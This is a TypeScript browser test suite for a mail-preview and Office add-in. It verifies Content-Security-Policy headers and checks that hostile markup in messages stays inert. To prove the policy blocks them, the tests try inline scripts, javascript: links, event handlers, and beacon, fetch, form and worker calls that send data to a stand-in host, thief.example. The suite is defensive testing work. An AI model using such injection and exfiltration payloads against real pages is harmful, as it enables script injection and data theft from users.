import { atLength } from "../atLength";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import type { Frame, Page } from "playwright-core";
import { bothSites, newPage, open } from "./kit";
import { hostileMessages, hostileSuppliers, mark } from "./hostile";
import { judged, paneFrame, paneOf, rowsOf, sampleNames, take, titleOf } from "./mailbox";
import { openPane, shows } from "./production";

const at = bothSites();

describe("every page", () => {
  it("comes with the policy, in its header and in itself, that names all that it may load", async () => {
    const pages = [
      ...["index.html", "pane.html"].map((name) => `${at.mailbox.address}${name}`),
      ...["taskpane.html", "commands.html", "support.html"].map((name) => `${at.server.address}${name}`),
    ];
    for (const page of pages) {
      const response = await fetch(page);
      const header = response.headers.get("content-security-policy") ?? "";
      const meta = /http-equiv="?Content-Security-Policy"? content="([^"]*)"/.exec(await response.text())?.[1];
      expect(header).toMatch(/^default-src 'none'; script-src 'self'/);
      // The header is one for all pages of a server; a page that needs less says less itself.
      const least = header.replace(" https://appsforoffice.microsoft.com", "").replace(" frame-src 'self';", "");
      const unseen = header.replace(/ (?:worker|style|img|font)-src [^;]*;/g, "");
      const allowed = page.endsWith("commands.html") ? [unseen] : [header, least];
      expect(allowed.map((each) => each.replace(/; frame-ancestors .*$/, ""))).toContain(meta);
      expect(header).not.toMatch(/unsafe|blob:/);
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.get("referrer-policy")).toBe("no-referrer");
    }
  });
});

describe("the workers that read files and wording", () => {
  it("and their data come with a policy of their own, which no other script has", async () => {
    for (const [part, address] of [
      ["preview", at.mailbox.address],
      ["taskpane", at.server.address],
    ] as const) {
      const names = readdirSync(join(__dirname, "../../dist", part), { recursive: true, encoding: "utf8" });
      const scripts = names.filter((name) => /\.(?:js|wasm|gz)$/.test(name));
      const of = async (name: string): Promise<string> =>
        (await fetch(address + name)).headers.get("content-security-policy") ?? "";
      const wasm = [];
      for (const name of scripts) if ((await of(name)).includes("'wasm-unsafe-eval'")) wasm.push(name);
      expect(wasm.filter((name) => !/^(?:(?:files|wording)\.[0-9a-f]{12}\.js|documents[\\/].*)$/.test(name))).toEqual(
        [],
      );
      for (const worker of ["files.", "wording."])
        expect(wasm.filter((name) => name.startsWith(worker))).toHaveLength(1);
      expect(await of(wasm[0] ?? "")).not.toMatch(/https?:|unsafe-inline|'unsafe-eval'|blob:|data:/);
    }
  });
});

/**
 * Tries all that a policy is there to refuse, forms only where asked. What was refused, and whether anything ran, once as
 * much was refused as `count`, or after ten seconds.
 */
async function tryAll({
  forms,
  count,
}: {
  forms: boolean;
  count: number;
}): Promise<{ refused: string[]; ran: boolean }> {
  const refused = new Set<string>();
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
    refused.add(`${effectiveDirective} ${blockedURI.replace(/^(https?:\/\/[^/]+).*/, "$1")}`);
  });
  const state = window as { ran?: boolean };
  const add = (name: string, attributes: Record<string, string>, text = "") => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  const foreign = "https://thief.example";
  add("script", {}, "window.ran = true");
  add("script", { src: `${foreign}/a.js` });
  add("button", { onclick: "window.ran = true" }).click();
  add("a", { href: "javascript:void(window.ran = true)" }).click();
  add("img", { src: `${foreign}/a.png` });
  add("iframe", { src: `${foreign}/` });
  add("object", { data: `${foreign}/a.swf` });
  add("link", { rel: "stylesheet", href: `${foreign}/a.css` });
  add("style", {}, "body { display: none }");
  add("base", { href: `${foreign}/` });
  const form = add("form", { action: `${foreign}/`, method: "post" });
  if (forms && form instanceof HTMLFormElement) form.submit();
  Reflect.apply(setTimeout, window, ["window.ran = true"]);
  navigator.sendBeacon(`${foreign}/`, "text");
  await fetch(`${foreign}/`).catch(() => undefined);
  try {
    new Worker(URL.createObjectURL(new Blob(["fetch('https://thief.example/')"])));
  } catch {
    // Some browsers tell it at once.
  }
  for (let tries = 0; tries < 200 && refused.size < count; tries++)
    await new Promise((resolve) => setTimeout(resolve, 50));
  // For one more, if there is any.
  await new Promise((resolve) => setTimeout(resolve, 200));
  return { refused: [...refused].sort(), ran: state.ran === true };
}

const all = [
  "base-uri https://thief.example",
  "connect-src https://thief.example",
  "form-action https://thief.example",
  "frame-src https://thief.example",
  "img-src https://thief.example",
  "object-src https://thief.example",
  "script-src eval",
  "script-src-attr inline",
  "script-src-elem https://thief.example",
  "script-src-elem inline",
  "style-src-elem https://thief.example",
  "style-src-elem inline",
  "worker-src blob",
];

/** What gets as far as the network. */
async function gettingOut(page: Page): Promise<readonly string[]> {
  const out: string[] = [];
  await page.route("https://thief.example/**", async (route) => {
    out.push(route.request().url());
    await route.abort();
  });
  return out;
}

describe("the policy refuses every way in and out", () => {
  it("in the pane as it is deployed", async () => {
    const { page } = await openPane(at.browser, at.server.address, { office: { messages: ["09-own-domain-spoofed"] } });
    const out = await gettingOut(page);
    await shows(page, "Do not pay");
    expect(await page.evaluate(tryAll, { forms: true, count: all.length })).toEqual({ refused: all, ran: false });
    expect(out).toEqual([]);
    await page.context().close();
  });

  it("in the preview", async () => {
    const { page } = await open(at.browser, at.mailbox.address);
    const out = await gettingOut(page);
    await judged(rowsOf(page).first());
    expect(await page.evaluate(tryAll, { forms: true, count: all.length })).toEqual({ refused: all, ran: false });
    expect(out).toEqual([]);
    await page.context().close();
  });

  it("in the pane in the preview", async () => {
    const { page } = await open(at.browser, at.mailbox.address);
    const out = await gettingOut(page);
    await judged(rowsOf(page).first());
    // A form there is refused by the page around it, too, and Chromium leaves an empty frame.
    const refused = all.filter((each) => !each.startsWith("form-action"));
    expect(await paneFrame(page).evaluate(tryAll, { forms: false, count: refused.length })).toEqual({
      refused,
      ran: false,
    });
    expect(out).toEqual([]);
    await page.context().close();
  });
});

/** What of a message became more than text, in a page. */
const lively = () => ({
  elements: [...document.querySelectorAll("body *")]
    .filter((element) => {
      const strange = element.matches(
        "script, img, object, embed, form, video, audio, link, base, meta, style, math, marquee",
      );
      const leads = element.matches("[href]:not([href^='#'], [href^='tel:+'])");
      const frames = element.matches("iframe") && element.getAttribute("title") !== "Task pane";
      const handles = element.getAttributeNames().some((name) => /^on/.test(name) || name === "srcdoc");
      return strange || leads || frames || handles;
    })
    .map((element) => element.outerHTML.slice(0, 200)),
  ran: "ran" in window,
  refused: (window as { refused?: string[] }).refused,
});

const frames = (page: Page): readonly Frame[] => [page.mainFrame(), paneFrame(page)];

describe("messages, supplier lists and policies full of markup", () => {
  it("stay text in the list, in the message, above it and in the pane", async () => {
    const { page, errors, foreign } = await newPage(at.browser, at.mailbox.address, {
      viewport: { width: 1280, height: 800 },
    });
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.addInitScript(() => {
      const refused: string[] = [];
      Object.assign(window, { refused });
      document.addEventListener("securitypolicyviolation", ({ violatedDirective }) => refused.push(violatedDirective));
    });
    await page.goto(`${at.mailbox.address}?language=en`);
    await rowsOf(page)
      .nth(sampleNames.length - 1)
      .waitFor();

    await take(page, [
      { name: `suppliers${mark}.csv`, text: hostileSuppliers },
      { name: `policy${mark}.json`, text: JSON.stringify({ [mark]: mark }) },
      ...hostileMessages,
    ]);
    await page.getByText(`policy${mark}.json was not taken`).waitFor();
    await rowsOf(page)
      .nth(hostileMessages.length - 1)
      .waitFor();
    // The first holds all of it.
    for (const index of atLength([...hostileMessages.keys()], [0])) {
      const row = rowsOf(page).nth(index);
      await row.click();
      await judged(row);
      // Every fold, and every quote.
      const folded = paneOf(page).locator('[aria-expanded="false"]');
      while ((await folded.count()) > 0) await folded.first().click();
      expect(await titleOf(page)).not.toBe("This message was not checked");
      const shown = [await paneOf(page).locator("main").innerText(), await page.locator("article").innerText()];
      for (const text of shown) expect(text).toMatch(/<img src=x|<b>|>gmi</);
      for (const frame of frames(page))
        expect(await frame.evaluate(lively)).toEqual({ elements: [], ran: false, refused: [] });
    }
    expect({ dialogs, errors, foreign }).toEqual({ dialogs: [], errors: [], foreign: [] });
    await page.context().close();
  });
});
